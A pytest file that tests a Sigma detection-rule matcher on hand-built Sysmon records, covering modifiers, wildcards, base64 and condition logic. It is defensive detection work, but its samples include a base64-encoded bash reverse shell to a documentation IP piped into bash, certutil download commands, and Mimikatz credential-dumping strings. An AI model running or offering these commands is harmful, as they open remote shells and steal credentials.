"""Sigma value and condition semantics, one feature at a time, on small hand-built records."""

import base64
from typing import Any

import pytest
import yaml

from triage.detect.logsources import route_all
from triage.detect.matcher import UnsupportedRule
from triage.detect.rules import compile_rule_text
from triage.models import Record, Scalar

SYSMON = "Microsoft-Windows-Sysmon/Operational"


def process(locator: str = "line:1", raw: str = "", **fields: Scalar) -> Record:
    """A Sysmon process-creation record with the given fields."""
    return Record(
        artifact_id="A1",
        locator=locator,
        source=SYSMON,
        raw=raw or " ".join(f"{k}={v}" for k, v in fields.items()),
        fields={"EventID": 1, "Channel": SYSMON, **fields},
    )


def matches(detection: dict[str, Any], record: Record) -> bool:
    text = yaml.safe_dump(
        {
            "title": "under test",
            "logsource": {"product": "windows", "category": "process_creation"},
            "detection": detection,
        }
    )
    rule = compile_rule_text(text, source="test")
    [(_, logsource, view)] = list(route_all([record]))
    assert rule.applies_to(logsource)
    return rule.first_match(view) is not None


def test_equality_is_case_insensitive_and_whole_value() -> None:
    rule = {"sel": {"Image": "C:\\Windows\\System32\\cmd.exe"}, "condition": "sel"}
    assert matches(rule, process(Image="c:\\windows\\system32\\CMD.EXE"))
    assert not matches(rule, process(Image="C:\\Windows\\System32\\cmd.exe.bak"))


def test_wildcards_star_and_question_mark() -> None:
    rule = {"sel": {"Image": "*\\p?wershell.exe"}, "condition": "sel"}
    assert matches(rule, process(Image="C:\\x\\powershell.exe"))
    assert matches(rule, process(Image="C:\\x\\PAWERSHELL.EXE"))
    assert not matches(rule, process(Image="C:\\x\\pwershell.exe"))


def test_escaped_wildcard_is_literal() -> None:
    rule = {"sel": {"CommandLine": "echo \\*"}, "condition": "sel"}
    assert matches(rule, process(CommandLine="echo *"))
    assert not matches(rule, process(CommandLine="echo anything"))


@pytest.mark.parametrize(
    ("modifier", "value", "hit", "miss"),
    [
        ("contains", "urlcache", "certutil -URLCACHE -f x", "certutil -decode"),
        ("startswith", "c:\\tools", "C:\\Tools\\x.exe", "D:\\c:\\tools"),
        ("endswith", "\\lsass.exe", "C:\\Windows\\lsass.EXE", "C:\\lsass.exe.txt"),
    ],
)
def test_string_modifiers(modifier: str, value: str, hit: str, miss: str) -> None:
    rule = {"sel": {f"CommandLine|{modifier}": value}, "condition": "sel"}
    assert matches(rule, process(CommandLine=hit))
    assert not matches(rule, process(CommandLine=miss))


def test_list_is_or_and_all_makes_it_and() -> None:
    any_of = {"sel": {"CommandLine|contains": ["alpha", "beta"]}, "condition": "sel"}
    all_of = {"sel": {"CommandLine|contains|all": ["alpha", "beta"]}, "condition": "sel"}
    assert matches(any_of, process(CommandLine="x beta"))
    assert not matches(all_of, process(CommandLine="x beta"))
    assert matches(all_of, process(CommandLine="BETA then Alpha"))


def test_regex_is_case_sensitive_unless_i() -> None:
    sensitive = {"sel": {"CommandLine|re": "Invoke-[A-Z]\\w+"}, "condition": "sel"}
    insensitive = {"sel": {"CommandLine|re|i": "invoke-mimikatz"}, "condition": "sel"}
    assert matches(sensitive, process(CommandLine="x Invoke-Mimikatz"))
    assert not matches(sensitive, process(CommandLine="x invoke-mimikatz"))
    assert matches(insensitive, process(CommandLine="INVOKE-MIMIKATZ"))


def test_cased_modifier_keeps_case() -> None:
    rule = {"sel": {"CommandLine|cased": "RunMe"}, "condition": "sel"}
    assert matches(rule, process(CommandLine="RunMe"))
    assert not matches(rule, process(CommandLine="runme"))


def test_cidr_matches_v4_and_mapped_addresses_only_inside() -> None:
    rule = {"sel": {"DestinationIp|cidr": "10.0.0.0/8"}, "condition": "sel"}
    assert matches(rule, process(DestinationIp="10.1.2.3"))
    assert matches(rule, process(DestinationIp="::ffff:10.1.2.3"))
    assert not matches(rule, process(DestinationIp="11.1.2.3"))
    assert not matches(rule, process(DestinationIp="not an address"))


def test_base64_and_base64offset() -> None:
    plain = {"sel": {"CommandLine|base64": "/dev/tcp/"}, "condition": "sel"}
    offset = {"sel": {"CommandLine|base64offset|contains": "/dev/tcp/"}, "condition": "sel"}
    encoded = base64.b64encode(b"bash -i >& /dev/tcp/198.51.100.7/443 0>&1").decode()
    assert matches(plain, process(CommandLine=base64.b64encode(b"/dev/tcp/").decode()))
    assert matches(offset, process(CommandLine=f"echo {encoded} | base64 -d | bash"))
    assert not matches(offset, process(CommandLine="echo aGVsbG8gd29ybGQ= | base64 -d"))


def test_windash_accepts_slash_and_dash_forms() -> None:
    rule = {"sel": {"CommandLine|windash|contains": "-urlcache"}, "condition": "sel"}
    assert matches(rule, process(CommandLine="certutil /urlcache /f http://x"))
    assert matches(rule, process(CommandLine="certutil -urlcache -f http://x"))
    assert not matches(rule, process(CommandLine="certutil urlcache"))


def test_exists_and_null() -> None:
    exists = {"sel": {"ParentImage|exists": True}, "condition": "sel"}
    absent = {"sel": {"ParentImage|exists": False}, "condition": "sel"}
    null = {"sel": {"ParentImage": None}, "condition": "sel"}
    assert matches(exists, process(ParentImage="C:\\x.exe"))
    assert not matches(exists, process())
    assert matches(absent, process())
    assert matches(null, process(ParentImage=""))
    assert not matches(null, process(ParentImage="C:\\x.exe"))


@pytest.mark.parametrize(
    ("modifier", "bound", "hit", "miss"),
    [("gt", 3, 4, 3), ("gte", 3, 3, 2), ("lt", 3, 2, 3), ("lte", 3, "3", 4)],
)
def test_numeric_comparisons(modifier: str, bound: int, hit: Scalar, miss: Scalar) -> None:
    rule = {"sel": {f"LogonType|{modifier}": bound}, "condition": "sel"}
    assert matches(rule, process(LogonType=hit))
    assert not matches(rule, process(LogonType=miss))
    assert not matches(rule, process(LogonType="n/a"))


def test_numbers_match_ints_strings_and_hex() -> None:
    rule = {"sel": {"GrantedAccess": 0x1410}, "condition": "sel"}
    assert matches(rule, process(GrantedAccess="0x1410"))
    assert matches(rule, process(GrantedAccess=5136))
    assert not matches(rule, process(GrantedAccess="0x1000"))


def test_keywords_search_the_raw_record() -> None:
    rule = {"keywords": ["sekurlsa::*passwords"], "condition": "keywords"}
    assert matches(rule, process(raw="<Data>mimikatz SEKURLSA::logonPasswords exit</Data>"))
    assert not matches(rule, process(raw="<Data>sekurlsa</Data>"))


def test_fieldref_compares_two_fields() -> None:
    rule = {"sel": {"Image|fieldref": "ParentImage"}, "condition": "sel"}
    assert matches(rule, process(Image="C:\\a.exe", ParentImage="c:\\A.exe"))
    assert not matches(rule, process(Image="C:\\a.exe", ParentImage="C:\\b.exe"))


def test_conditions_one_of_all_of_and_not() -> None:
    detection = {
        "selection_a": {"Image|endswith": "\\a.exe"},
        "selection_b": {"Image|endswith": "\\b.exe"},
        "filter": {"User": "SYSTEM"},
        "condition": "1 of selection_* and not filter",
    }
    assert matches(detection, process(Image="C:\\b.exe", User="alice"))
    assert not matches(detection, process(Image="C:\\b.exe", User="system"))
    assert not matches(detection, process(Image="C:\\c.exe", User="alice"))
    everything = {
        "sel_image": {"Image|endswith": "\\a.exe"},
        "sel_user": {"User": "alice"},
        "condition": "all of them",
    }
    assert matches(everything, process(Image="C:\\a.exe", User="ALICE"))
    assert not matches(everything, process(Image="C:\\a.exe", User="bob"))


def test_list_of_maps_is_or_of_ands() -> None:
    detection = {
        "sel": [
            {"Image|endswith": "\\a.exe", "User": "alice"},
            {"OriginalFileName": "a.exe"},
        ],
        "condition": "sel",
    }
    assert matches(detection, process(Image="C:\\a.exe", User="alice"))
    assert matches(detection, process(OriginalFileName="A.EXE"))
    assert not matches(detection, process(Image="C:\\a.exe", User="bob"))


def test_placeholders_are_reported_unsupported() -> None:
    text = yaml.safe_dump(
        {
            "title": "placeholder",
            "logsource": {"product": "windows"},
            "detection": {"sel": {"Image|expand": "%admin_tools%"}, "condition": "sel"},
        }
    )
    with pytest.raises(UnsupportedRule, match="placeholder"):
        compile_rule_text(text, source="test")
